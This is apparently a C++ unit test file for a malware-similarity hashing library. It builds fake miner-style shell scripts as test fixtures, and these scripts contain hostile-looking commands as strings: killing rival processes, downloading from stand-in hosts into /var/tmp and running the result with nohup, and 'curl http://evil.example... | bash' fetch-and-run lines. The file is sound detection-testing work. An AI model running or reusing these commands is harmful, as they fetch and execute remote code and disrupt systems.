#include "format/similarity_hash.h"

#include <set>

#include "gtest/gtest.h"

namespace lazaret::format {
namespace {

std::string script(const std::string& host, int variant) {
  std::string text = "#!/bin/sh\n# made for " + host + "\n";
  for (int i = 0; i < 40; ++i) text += "ps auxf | grep -v grep | grep rival" + std::string(1, static_cast<char>('a' + i % 26)) + "x | xargs kill -9\n";
  text += "curl -s http://" + host + "/logo.jpg -o /var/tmp/" + std::string(static_cast<std::size_t>(variant), 'q') + "\nnohup /var/tmp/run -c config.json\n";
  return text;
}

TEST(SimilarityHash, VariantsAreNearAndOthersFar) {
  const std::string a = similarity_hash(as_bytes(script("192.0.2.1", 3))), b = similarity_hash(as_bytes(script("198.51.100.77", 5)));
  std::string other;
  for (int i = 0; i < 100; ++i) other += "int f" + std::to_string(i * 7919) + "(void) { return " + std::to_string(i) + "; }\n";
  const std::string c = similarity_hash(as_bytes(other));
  ASSERT_TRUE(is_similarity_hash(a));
  ASSERT_TRUE(is_similarity_hash(b));
  ASSERT_TRUE(is_similarity_hash(c));
  EXPECT_EQ(similarity_distance(a, a), 0);
  EXPECT_LT(similarity_distance(a, b), 40);
  EXPECT_GT(similarity_distance(a, c), 100);
  const auto keys_a = similarity_keys(a), keys_b = similarity_keys(b);
  ASSERT_EQ(keys_a.size(), 16u);
  std::set<std::uint32_t> shared(keys_a.begin(), keys_a.end());
  std::size_t common = 0;
  for (const std::uint32_t key : keys_b) common += shared.count(key);
  EXPECT_GE(common, 2u) << "near digests meet in some key";
}

TEST(SimilarityHash, WhatHasNone) {
  EXPECT_EQ(similarity_hash(as_bytes(std::string(100, 'x'))), "");
  EXPECT_EQ(similarity_hash(as_bytes(std::string(5000, '\0'))), "");
  EXPECT_EQ(similarity_distance("", std::string(70, '0')), -1);
  EXPECT_EQ(similarity_distance(std::string(70, 'g'), std::string(70, '0')), -1);
  EXPECT_TRUE(similarity_keys("T1").empty());
}

TEST(ScriptShape, LosesWhatAnActorChanges) {
  const std::string shape = script_shape("#!/bin/sh\n  # version 7\ncurl -s   http://192.0.2.7:8220/logo3.jpg |\tbash -s\n");
  EXPECT_EQ(shape, script_shape("#!/bin/sh\ncurl -s http://evil.example:99/logo4.jpg | bash -s"));
  EXPECT_NE(shape, script_shape("#!/bin/sh\ncurl -s http://evil.example:99/other.jpg | bash -s"));
  EXPECT_EQ(script_shape("echo " + std::string(64, 'A') + " | base64 -d"), script_shape("echo " + std::string(90, 'B') + " | base64 -d"));
  EXPECT_EQ(script_shape(""), "");
  const std::string text = "a\n #b\n://x 12.3\xff";
  for (std::size_t size = 0; size <= text.size(); ++size) (void)script_shape(std::string_view(text).substr(0, size));
}

}  // namespace
}  // namespace lazaret::format
